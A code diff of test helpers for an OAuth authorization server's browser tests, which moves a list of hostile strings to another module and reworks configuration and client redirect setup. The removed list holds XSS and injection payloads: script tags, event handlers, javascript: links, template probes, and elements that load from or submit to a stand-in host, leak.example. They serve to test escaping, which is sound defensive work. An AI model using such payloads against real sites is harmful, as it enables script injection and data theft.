@@ -3,6 +3,7 @@
 from typing import Any
 from urllib.parse import urlencode
 
+from tests.browser.hostile import HOSTILE
 from tests.browser.websites import WebSites
 from tests.support.server import SEEDS, load_toml
 
@@ -12,30 +13,20 @@ VERIFIER = "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"
 CHALLENGE = "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"
 """Of `VERIFIER` (RFC 7636, appendix B)."""
 
-HOSTILE = (
-    "<script>ran = alert(1)</script><img src=x onerror='ran = alert(2)'>"
-    '"><svg onload=ran=alert(3)><a href="javascript:ran=alert(4)">{{ 7 * 7 }}${7*7}</a>',
-    "</title></style></textarea></noscript><iframe srcdoc='<script>ran=1</script>'></iframe>"
-    "<base href='https://leak.example/'><link rel=stylesheet href='https://leak.example/a.css'>",
-    "<meta http-equiv=refresh content='0;url=https://leak.example/'>&lt;script&gt;alert(5)&lt;"
-    "/script&gt;<form action='https://leak.example/'><button>Allow</button></form>",
-    "' autofocus onfocus='ran=alert(6)' x='\u202e\u2028<object data='https://leak.example/'>"
-    "<img src='https://leak.example/b.png'><!-- --!><embed src=//leak.example>\\u003cscript\\u003e",
-)
-"""Texts that are more than text wherever somebody forgets to escape them, 256 characters at most."""
-
 
 def make_configuration(sites: WebSites, port: int) -> dict[str, Any]:
-    """Return the example configuration, opened to the sites of the tests.
+    """Return the example's first environment, opened to the sites of the tests.
 
     Args: port is the server's.
     """
-    configuration = load_toml(SEEDS)
-    del configuration["server"]["public_url"]
-    environments = configuration["environments"]
-    environments["default"] = _extend(environments["default"], sites)
-    environments["open"] = _make_open(sites, port)
-    return configuration
+    example = load_toml(SEEDS)["environments"]["default"]
+    return {
+        "server": {"default_environment": "default"},
+        "environments": {
+            "default": _extend(example, sites),
+            "open": _make_open(sites, port),
+        },
+    }
 
 
 def authorize_url(base_url: str, client_id: str, redirect_uri: str, **changed: str) -> str:
@@ -98,7 +89,10 @@ def _make_open(sites: WebSites, port: int) -> dict[str, Any]:
         "authentication_applications": {"page": {"url": f"{sites.application}/sign-on"}},
         "clients": {
             "asking": _make_client(sites),
-            "single-page": _make_client(sites, auth_methods=["none"], bypass_approval=True),
+            "single-page": {
+                **_make_client(sites, auth_methods=["none"], bypass_approval=True),
+                "redirect_uris": [f"{sites.application}/{path}" for path in ("callback", "spa")],
+            },
             "redirectless": {
                 "auth_methods": ["none"],
                 "grant_types": ["authorization_code"],
